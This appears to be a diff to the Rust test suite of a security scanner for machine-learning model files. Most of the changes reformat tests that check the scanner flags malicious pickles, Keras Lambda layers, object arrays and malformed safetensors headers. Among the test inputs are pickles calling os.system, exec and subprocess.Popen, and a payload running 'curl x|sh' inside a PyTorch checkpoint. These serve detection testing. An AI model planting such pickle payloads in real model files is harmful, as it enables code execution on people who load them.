@@ -54,7 +54,10 @@ fn call_pickle(protocol: u8, module: &str, name: &str, arg: &str) -> Vec<u8> {
 fn inspect(path: &Path) -> (i32, Value) {
     let (code, out, err) = run(modelseal().args(["--format", "json", "inspect"]).arg(path));
     assert!(code == 0 || code == 1, "{err}");
-    (code, serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}")))
+    (
+        code,
+        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}")),
+    )
 }
 
 fn messages(report: &Value) -> Vec<String> {
@@ -62,7 +65,13 @@ fn messages(report: &Value) -> Vec<String> {
         .as_array()
         .unwrap()
         .iter()
-        .flat_map(|f| f["findings"].as_array().unwrap().iter().map(|x| x["message"].as_str().unwrap().to_string()))
+        .flat_map(|f| {
+            f["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|x| x["message"].as_str().unwrap().to_string())
+        })
         .collect()
 }
 
@@ -70,14 +79,23 @@ fn messages(report: &Value) -> Vec<String> {
 fn malicious_pickles_of_every_protocol_are_flagged() {
     let tmp = tempfile::tempdir().unwrap();
     for protocol in 0..=5u8 {
-        for (module, name) in [("posix", "system"), ("builtins", "exec"), ("os", "system"), ("subprocess", "Popen")] {
+        for (module, name) in [
+            ("posix", "system"),
+            ("builtins", "exec"),
+            ("os", "system"),
+            ("subprocess", "Popen"),
+        ] {
             let path = tmp.path().join(format!("p{protocol}.bin"));
             fs::write(&path, call_pickle(protocol, module, name, "id")).unwrap();
             let (code, report) = inspect(&path);
             assert_eq!(code, 1, "protocol {protocol} {module}.{name}: {report}");
             assert_eq!(report["files"][0]["format"], "pickle");
             let m = messages(&report);
-            assert!(m.iter().any(|x| x.contains(&format!("calls {module}.{name} (dangerous)"))), "{protocol}: {m:?}");
+            assert!(
+                m.iter()
+                    .any(|x| x.contains(&format!("calls {module}.{name} (dangerous)"))),
+                "{protocol}: {m:?}"
+            );
         }
     }
 }
@@ -106,8 +124,16 @@ fn import_module_then_call_and_nested_reduce_are_flagged() {
     let (code, report) = inspect(&path);
     assert_eq!(code, 1);
     let m = messages(&report);
-    assert!(m.iter().any(|x| x.contains("calls importlib.import_module (dangerous)")), "{m:?}");
-    assert!(m.iter().any(|x| x.contains("calls builtins.getattr (dangerous)")), "{m:?}");
+    assert!(
+        m.iter()
+            .any(|x| x.contains("calls importlib.import_module (dangerous)")),
+        "{m:?}"
+    );
+    assert!(
+        m.iter()
+            .any(|x| x.contains("calls builtins.getattr (dangerous)")),
+        "{m:?}"
+    );
 }
 
 /// A state dict as torch writes it: an OrderedDict of rebuilt tensors.
@@ -135,7 +161,14 @@ fn a_benign_state_dict_pickle_has_only_safe_globals() {
         .iter()
         .map(|g| g["name"].as_str().unwrap())
         .collect();
-    assert_eq!(globals, ["collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage"]);
+    assert_eq!(
+        globals,
+        [
+            "collections.OrderedDict",
+            "torch._utils._rebuild_tensor_v2",
+            "torch.FloatStorage"
+        ]
+    );
 }
 
 fn zip_file(path: &Path, members: &[(&str, &[u8])]) {
@@ -155,13 +188,31 @@ fn pytorch_zip_checkpoints_are_scanned_member_by_member() {
     let tmp = tempfile::tempdir().unwrap();
     let evil = tmp.path().join("pytorch_model.bin");
     let payload = call_pickle(2, "posix", "system", "curl x|sh");
-    zip_file(&evil, &[("archive/data.pkl", &payload), ("archive/version", b"3\n"), ("archive/data/0", &[0u8; 16])]);
+    zip_file(
+        &evil,
+        &[
+            ("archive/data.pkl", &payload),
+            ("archive/version", b"3\n"),
+            ("archive/data/0", &[0u8; 16]),
+        ],
+    );
     let (code, report) = inspect(&evil);
     assert_eq!(code, 1);
     assert_eq!(report["files"][0]["format"], "pytorch-zip");
-    assert!(messages(&report).iter().any(|m| m.contains("archive/data.pkl: calls posix.system")), "{report}");
+    assert!(
+        messages(&report)
+            .iter()
+            .any(|m| m.contains("archive/data.pkl: calls posix.system")),
+        "{report}"
+    );
     let good = tmp.path().join("good.pt");
-    zip_file(&good, &[("archive/data.pkl", &benign_state_dict()), ("archive/version", b"3\n")]);
+    zip_file(
+        &good,
+        &[
+            ("archive/data.pkl", &benign_state_dict()),
+            ("archive/version", b"3\n"),
+        ],
+    );
     let (code, report) = inspect(&good);
     assert_eq!(code, 0, "{report}");
     assert_eq!(report["files"][0]["format"], "pytorch-zip");
@@ -183,7 +234,12 @@ fn npz_object_arrays_and_keras_lambdas_are_flagged() {
     let (code, report) = inspect(&npz);
     assert_eq!(code, 1);
     assert_eq!(report["files"][0]["format"], "numpy-zip");
-    assert!(messages(&report).iter().any(|m| m.contains("b.npy: object array")), "{report}");
+    assert!(
+        messages(&report)
+            .iter()
+            .any(|m| m.contains("b.npy: object array")),
+        "{report}"
+    );
     let plain = tmp.path().join("a.npy");
     fs::write(&plain, npy("<f4")).unwrap();
     let (code, report) = inspect(&plain);
@@ -191,7 +247,14 @@ fn npz_object_arrays_and_keras_lambdas_are_flagged() {
     assert_eq!(report["files"][0]["format"], "numpy");
     let keras = tmp.path().join("model.keras");
     let config = br#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}"#;
-    zip_file(&keras, &[("config.json", config), ("metadata.json", b"{}"), ("model.weights.h5", b"\x89HDF\r\n\x1a\n")]);
+    zip_file(
+        &keras,
+        &[
+            ("config.json", config),
+            ("metadata.json", b"{}"),
+            ("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
+        ],
+    );
     let (code, report) = inspect(&keras);
     assert_eq!(code, 1);
     assert_eq!(report["files"][0]["format"], "keras");
@@ -210,12 +273,27 @@ fn formats_are_recognised_by_content_not_extension() {
     gguf.extend_from_slice(&[0u8; 16]);
     let cases = [
         (write("weights.pt", &gguf), "gguf"),
-        (write("model.safetensors.txt", &fs::read(fixture("tiny-model/model.safetensors")).unwrap()), "safetensors"),
-        (write("model.onnx.bak", &[0x08, 0x08, 0x3a, 0x00, 0x42, 0x00]), "onnx"),
+        (
+            write(
+                "model.safetensors.txt",
+                &fs::read(fixture("tiny-model/model.safetensors")).unwrap(),
+            ),
+            "safetensors",
+        ),
+        (
+            write("model.onnx.bak", &[0x08, 0x08, 0x3a, 0x00, 0x42, 0x00]),
+            "onnx",
+        ),
         (write("model.bin", b"\x89HDF\r\n\x1a\n\0\0\0\0"), "hdf5"),
         (write("notes.pkl", b"just some notes\n"), "text"),
         (write("data.bin", b"{\"a\": [1, 2]}"), "json"),
-        (write("blob.safetensors", &[0xde, 0xad, 0xbe, 0xef, 0, 0, 0xff, 0x01]), "unknown"),
+        (
+            write(
+                "blob.safetensors",
+                &[0xde, 0xad, 0xbe, 0xef, 0, 0, 0xff, 0x01],
+            ),
+            "unknown",
+        ),
     ];
     for (path, want) in cases {
         let (_, report) = inspect(&path);
@@ -232,7 +310,14 @@ fn truncated_and_garbage_pickles_are_findings_not_crashes() {
         fs::write(&path, &full[..cut]).unwrap();
         let (code, report) = inspect(&path);
         assert_eq!(code, 1, "cut {cut}: {report}");
-        assert!(report["files"][0]["findings"].as_array().unwrap().iter().any(|f| f["severity"] == "invalid"), "{report}");
+        assert!(
+            report["files"][0]["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|f| f["severity"] == "invalid"),
+            "{report}"
+        );
     }
     let path = tmp.path().join("garbage.pkl");
     let mut garbage = vec![0x80, 2];
@@ -246,7 +331,10 @@ fn truncated_and_garbage_pickles_are_findings_not_crashes() {
 fn lying_safetensors_headers_are_each_rejected_with_a_reason() {
     let tmp = tempfile::tempdir().unwrap();
     let st = |header: &[u8], data: usize, declared: Option<u64>| {
-        let mut b = declared.unwrap_or(header.len() as u64).to_le_bytes().to_vec();
+        let mut b = declared
+            .unwrap_or(header.len() as u64)
+            .to_le_bytes()
+            .to_vec();
         b.extend_from_slice(header);
         b.extend(std::iter::repeat_n(0u8, data));
         b
